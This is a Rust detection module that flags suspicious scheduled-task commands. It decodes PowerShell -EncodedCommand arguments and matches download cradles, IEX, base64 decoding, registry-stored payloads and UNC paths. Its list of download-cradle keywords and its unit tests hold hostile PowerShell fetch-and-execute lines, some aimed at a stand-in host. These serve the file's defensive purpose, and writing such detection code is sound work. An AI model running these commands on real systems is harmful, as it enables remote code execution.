//! What a task's action says about itself, each sign with the text that matched: a hidden
//! window, an encoded command (decoded, so the analyst reads the script), in-memory execution
//! (`IEX`, `Invoke-Expression`), `FromBase64String`, download cradles, a payload read from a
//! registry value, UNC paths. LOLBins, script hosts and user-writable paths are judged in
//! `heuristics`; this file reads the command line's content.

use super::cmdline::split_command_line;
use super::naming::image_stem;
use super::reason::TaskReason;

/// Longest excerpt quoted in a finding (the decoded script of an encoded command can be long).
const EXCERPT: usize = 160;

/// Every sign in the action `command arguments`, as `(reason, detail with the matched text)`.
///
/// The arguments of an encoded PowerShell command are decoded first and searched too, so an
/// `IEX` hidden in `-EncodedCommand` is found as one written out.
pub(crate) fn action_signs(command: &str, arguments: &str) -> Vec<(TaskReason, String)> {
    let mut out = Vec::new();
    let powershell = matches!(image_stem(command).as_str(), "powershell" | "pwsh");
    let args = split_command_line(arguments);
    let mut text = format!("{command} {arguments}");
    if powershell {
        if let Some(w) = hidden_window(&args) {
            out.push((
                TaskReason::HiddenWindow,
                format!("PowerShell runs with a hidden window ({w})"),
            ));
        }
        match encoded_command(&args) {
            Some((flag, Some(script))) => {
                out.push((
                    TaskReason::EncodedPowerShell,
                    format!(
                        "the action is PowerShell with an encoded command ({flag}), decoded: {}",
                        excerpt(&script)
                    ),
                ));
                text.push(' ');
                text.push_str(&script);
            }
            // Truncated XML (long 4702 fields) cuts the base64: still an encoded command.
            Some((flag, None)) => out.push((
                TaskReason::EncodedPowerShell,
                format!("the action is PowerShell with an encoded command ({flag}), not decodable"),
            )),
            None => {}
        }
    }
    let lower = text.to_ascii_lowercase();
    if let Some(m) = find_word(&lower, "iex").or_else(|| find_word(&lower, "invoke-expression")) {
        out.push((
            TaskReason::InMemoryExecution,
            format!("executes a string as code: {}", quote(&text, m)),
        ));
    }
    if let Some(m) = lower.find("frombase64string") {
        out.push((
            TaskReason::FromBase64,
            format!("decodes base64 at run time: {}", quote(&text, m)),
        ));
    }
    const CRADLES: &[&str] = &[
        "downloadstring",
        "downloadfile",
        "downloaddata",
        "net.webclient",
        "invoke-webrequest",
        "invoke-restmethod",
        "start-bitstransfer",
        "bitsadmin /transfer",
        "certutil -urlcache",
        "certutil.exe -urlcache",
        "msxml2.xmlhttp",
        "winhttp.winhttprequest",
    ];
    let cradle = CRADLES.iter().filter_map(|c| lower.find(c)).min().or_else(|| {
        ["iwr ", "irm ", "wget ", "curl "]
            .iter()
            .filter_map(|c| find_word(&lower, c.trim()))
            .min()
    });
    if let Some(m) = cradle {
        out.push((
            TaskReason::DownloadCradle,
            format!("downloads at run time: {}", quote(&text, m)),
        ));
    }
    const REGISTRY_READS: &[&str] = &[
        "gp hkcu:",
        "gp hklm:",
        "get-itemproperty",
        "gp -path",
        "registry::",
        "reg query",
    ];
    if let Some(m) = REGISTRY_READS.iter().filter_map(|r| lower.find(r)).min() {
        out.push((
            TaskReason::RegistryPayload,
            format!("reads its payload from the registry: {}", quote(&text, m)),
        ));
    }
    if let Some(unc) = unc_path(&text) {
        out.push((
            TaskReason::UncPath,
            format!("runs from or refers to a network share: {unc}"),
        ));
    }
    out
}

/// The window-style argument when PowerShell is told to hide its window (`-W hidden`,
/// `-WindowStyle Hidden`, `-win 1`): PowerShell accepts any prefix of a parameter name.
fn hidden_window(args: &[String]) -> Option<String> {
    args.windows(2).find_map(|w| {
        let flag = w[0].to_ascii_lowercase();
        let name = flag.strip_prefix('-').or_else(|| flag.strip_prefix('/'))?;
        let value = w[1].to_ascii_lowercase();
        ("windowstyle".starts_with(name) && !name.is_empty() && (value == "hidden" || value == "1"))
            .then(|| format!("{} {}", w[0], w[1]))
    })
}

/// The `-EncodedCommand` flag as written and its script, decoded (base64 of UTF-16LE), when the
/// argument decodes.
fn encoded_command(args: &[String]) -> Option<(String, Option<String>)> {
    args.windows(2).find_map(|w| {
        let flag = w[0].to_ascii_lowercase();
        let name = flag.strip_prefix('-').or_else(|| flag.strip_prefix('/'))?;
        // `-e`, `-en`, `-enc`, … `-encodedcommand`, and the documented alias `-ec`.
        let is_flag = name == "ec" || (!name.is_empty() && "encodedcommand".starts_with(name));
        if !is_flag {
            return None;
        }
        Some((w[0].clone(), decode_utf16_base64(&w[1])))
    })
}

/// Decodes PowerShell's `-EncodedCommand` argument: base64 of UTF-16LE text. `None` when it is
/// not valid base64 or not valid UTF-16.
///
/// # Example
/// ```
/// use beaconstat::lineage::decode_encoded_command;
/// // "IEX 'hi'" as UTF-16LE, base64.
/// assert_eq!(decode_encoded_command("SQBFAFgAIAAnAGgAaQAnAA==").as_deref(), Some("IEX 'hi'"));
/// assert_eq!(decode_encoded_command("not base64!"), None);
/// ```
pub fn decode_encoded_command(arg: &str) -> Option<String> {
    decode_utf16_base64(arg)
}

fn decode_utf16_base64(arg: &str) -> Option<String> {
    let bytes = decode_base64(arg.trim().trim_matches(['"', '\'']))?;
    if bytes.len() % 2 != 0 || bytes.is_empty() {
        return None;
    }
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    String::from_utf16(&units).ok()
}

/// Standard base64 (padding optional); `None` on any other character.
fn decode_base64(s: &str) -> Option<Vec<u8>> {
    let s = s.trim_end_matches('=');
    let mut out = Vec::with_capacity(s.len() * 3 / 4);
    let (mut acc, mut bits) = (0u32, 0u32);
    for c in s.bytes() {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    Some(out)
}

/// Where `word` occurs in `lower` (already lower-cased) as a word: not inside a longer name
/// (`iex` in `iex(`, `| iex`, not in `fiexd`).
fn find_word(lower: &str, word: &str) -> Option<usize> {
    let b = lower.as_bytes();
    let ident = |i: usize| {
        b.get(i)
            .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_' || *c == b'-')
    };
    lower
        .match_indices(word)
        .map(|(i, _)| i)
        .find(|&i| (i == 0 || !ident(i - 1)) && !ident(i + word.len()))
}

/// A UNC path (`\\host\share…`) in `s`, excluding the device namespaces `\\?\` and `\\.\`.
fn unc_path(s: &str) -> Option<&str> {
    s.match_indices(r"\\").find_map(|(i, _)| {
        let rest = &s[i..];
        let host = rest.get(2..)?;
        let first = host.chars().next()?;
        if !(first.is_ascii_alphanumeric()) || !host.contains('\\') {
            return None;
        }
        // Not the second backslash of a longer run, and not inside a path (`C:\\x`).
        if i > 0 && !s[..i].ends_with([' ', '"', '\'', '=', '(']) {
            return None;
        }
        let end = rest.find([' ', '"', '\'', ')']).unwrap_or(rest.len());
        Some(&rest[..end])
    })
}

/// The text around byte `at` of `text` (which the lower-cased copy indexes the same way: ASCII
/// lower-casing keeps byte offsets).
fn quote(text: &str, at: usize) -> String {
    let mut start = at.min(text.len());
    while !text.is_char_boundary(start) {
        start -= 1;
    }
    excerpt(&text[start..])
}

/// At most [`EXCERPT`] characters of `s`, with `…` when cut.
pub(crate) fn excerpt(s: &str) -> String {
    let s = s.trim();
    match s.char_indices().nth(EXCERPT) {
        Some((i, _)) => format!("{}…", &s[..i]),
        None => s.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reasons(cmd: &str, args: &str) -> Vec<TaskReason> {
        action_signs(cmd, args).into_iter().map(|(r, _)| r).collect()
    }

    #[test]
    fn the_registry_payload_action_of_the_issue() {
        // Hidden window, in-memory execution of a base64 payload read from a registry value.
        let args = r#"-NonI -W hidden -c "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((gp HKCU:\Software\Classes\x).debug)))""#;
        let signs = action_signs(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", args);
        let got: Vec<_> = signs.iter().map(|s| s.0).collect();
        assert_eq!(
            got,
            [
                TaskReason::HiddenWindow,
                TaskReason::InMemoryExecution,
                TaskReason::FromBase64,
                TaskReason::RegistryPayload
            ]
        );
        assert_eq!(signs[0].1, "PowerShell runs with a hidden window (-W hidden)");
        assert!(
            signs[1]
                .1
                .starts_with("executes a string as code: IEX ([Text.Encoding]"),
            "{}",
            signs[1].1
        );
        assert!(
            signs[2]
                .1
                .starts_with("decodes base64 at run time: FromBase64String((gp HKCU:"),
            "{}",
            signs[2].1
        );
        assert!(
            signs[3]
                .1
                .starts_with(r"reads its payload from the registry: gp HKCU:\Software\Classes\x).debug"),
            "{}",
            signs[3].1
        );
    }

    #[test]
    fn an_encoded_command_is_decoded_and_searched() {
        // "IEX (New-Object Net.WebClient).DownloadString('http://x/a')" as UTF-16LE base64.
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')";
        let units: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let b64 = encode_base64(&units);
        let signs = action_signs("powershell.exe", &format!("-nop -w 1 -EnC {b64}"));
        let got: Vec<_> = signs.iter().map(|s| s.0).collect();
        assert_eq!(
            got,
            [
                TaskReason::HiddenWindow,
                TaskReason::EncodedPowerShell,
                TaskReason::InMemoryExecution,
                TaskReason::DownloadCradle
            ]
        );
        assert_eq!(
            signs[1].1,
            format!("the action is PowerShell with an encoded command (-EnC), decoded: {script}")
        );
        assert_eq!(
            signs[3].1,
            "downloads at run time: Net.WebClient).DownloadString('http://x/a')"
        );
        assert_eq!(decode_encoded_command(&b64).as_deref(), Some(script));
    }

    #[test]
    fn words_paths_and_benign_actions() {
        assert_eq!(
            reasons("cmd.exe", r"/c \\10.0.0.5\share\run.bat"),
            [TaskReason::UncPath]
        );
        assert_eq!(
            action_signs("cmd.exe", r"/c \\10.0.0.5\share\run.bat")[0].1,
            r"runs from or refers to a network share: \\10.0.0.5\share\run.bat"
        );
        assert!(reasons(r"\\?\C:\Windows\System32\cmd.exe", "/c echo").is_empty());
        assert!(reasons("powershell.exe", "-File C:\\scripts\\fiexd.ps1 -WindowStyle Normal").is_empty());
        assert!(reasons(r"C:\Windows\System32\usoclient.exe", "StartScan").is_empty());
        assert_eq!(
            reasons("powershell.exe", "-c iwr http://x/a -o a.exe"),
            [TaskReason::DownloadCradle]
        );
        // Not PowerShell: a `-w hidden` means nothing.
        assert!(reasons("other.exe", "-w hidden").is_empty());
        assert_eq!(decode_encoded_command("QQ"), None); // one byte: not UTF-16
    }

    fn encode_base64(b: &[u8]) -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut s = String::new();
        for c in b.chunks(3) {
            let n = (u32::from(c[0]) << 16)
                | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
                | u32::from(*c.get(2).unwrap_or(&0));
            for i in 0..4 {
                if i <= c.len() {
                    s.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
                } else {
                    s.push('=');
                }
            }
        }
        s
    }
}
